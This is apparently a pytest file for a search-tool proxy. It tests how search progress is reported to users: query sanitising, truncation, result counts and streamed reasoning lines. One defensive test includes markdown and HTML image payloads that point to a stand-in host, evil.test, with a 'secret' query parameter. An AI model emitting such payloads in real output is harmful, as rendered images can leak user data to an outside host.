"""What is told of a job, in one wording for all ways to tell it."""

from __future__ import annotations

from typing import Any

import pytest

from proxy.core.hidden import Failed, Found, HiddenTool, Job
from proxy.core.passages import Passage
from proxy.core.progress import News, Thoughts, begun, ended
from proxy.core.search_tool import Search
from proxy.core.writer import CompletionWriter
from proxy.errors import Overloaded
from tests.core.samples import TOOLS, result
from tests.support.lookup import Lookup

(SEARCH,) = TOOLS
FAILED = Failed(Overloaded("LightOn", "LightOn is busy."))


def told(query: str) -> str:
    return begun(SEARCH, Search(query, 5).job)


def test_a_search_is_told_with_its_query() -> None:
    assert told("notice period 2024") == "Searching: notice period 2024"


def test_it_is_one_line_of_what_can_be_seen() -> None:
    assert told("a\n\tb \u202ec\u200b\x1b[1m\r\nd") == "Searching: a b c d"


def test_a_long_query_is_cut() -> None:
    assert told("x" * 189) == f"Searching: {'x' * 189}"
    assert told("x" * 190) == f"Searching: {'x' * 188}…"
    assert told(f"{'x' * 187} and more") == f"Searching: {'x' * 187}…"


@pytest.mark.parametrize("query", ["![x](https://evil.test/?q=secret)", '<img src="//evil.test">'])
def test_no_front_end_loads_an_image_because_of_a_query(query: str) -> None:
    assert not {"[", "]", "<", "`"} & set(told(query))


@pytest.mark.parametrize(("count", "text"), [(1, "Found 1 passage."), (5, "Found 5 passages.")])
def test_results_are_counted(count: int, text: str) -> None:
    assert ended(SEARCH, Found((result(),) * count)) == text


def test_results_without_text_are_none() -> None:
    results = (result(content=None), result(content=" \n"))
    assert ended(SEARCH, Found(results)) == ended(SEARCH, Found()) == "Nothing found."
    assert ended(SEARCH, Found((*results, result()))) == "Found 1 passage."


def test_a_failure_is_told_without_its_cause() -> None:
    assert ended(SEARCH, FAILED) == "The search failed."


def test_each_tool_says_for_itself_what_it_does() -> None:
    tool: HiddenTool = Lookup()
    assert begun(tool, Job("lookup", (7,))) == "Looking around file 7"
    assert ended(tool, FAILED) == "The archive is closed."


def test_among_the_thoughts_each_is_a_marked_line() -> None:
    writer = CompletionWriter(id="chatcmpl-1", created=1, model="m", include_usage=False)
    thoughts = Thoughts(writer)
    news = News("lighton_search", "Searching: leave", is_done=False)
    chunk: Any = thoughts.tell(news)
    delta = chunk["choices"][0]["delta"]
    assert delta == {"role": "assistant", "reasoning_content": "▸ Searching: leave\n"}
    assert "event" not in chunk


def test_thoughts_say_nothing_of_sources_nor_of_the_end() -> None:
    writer = CompletionWriter(id="chatcmpl-1", created=1, model="m", include_usage=False)
    thoughts = Thoughts(writer)
    assert not thoughts.shows_sources
    assert thoughts.cite(1, Passage(1, result()), "Leave is 27 days.") is None
    assert thoughts.close(News("lighton_search", "Searching: leave", is_done=False)) is None
